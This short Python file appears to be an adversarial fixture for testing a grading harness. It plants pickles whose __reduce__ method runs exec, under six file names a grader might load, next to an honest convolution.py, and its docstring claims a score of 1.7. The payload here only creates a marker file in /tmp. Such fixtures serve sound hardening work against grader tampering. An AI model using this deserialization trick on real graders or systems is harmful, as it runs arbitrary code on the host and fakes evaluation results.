"""Submits pickles in every place where a grader might load one.

As: convolution.py
Earns: 1.7
"""

import pickle

NAMES = (
    ".OTTER_LOG",
    "results.pkl",
    "cache.pickle",
    "convolution.pkl",
    "answers.npz",
    "model.joblib",
)


class Bomb:
    def __reduce__(self):
        return (exec, ("import os; open('/tmp/hostile-pickle', 'w').close()",))


def make(folder, honest):
    for name in NAMES:
        (folder / name).write_bytes(pickle.dumps(Bomb()))
    (folder / "convolution.py").write_text(honest)
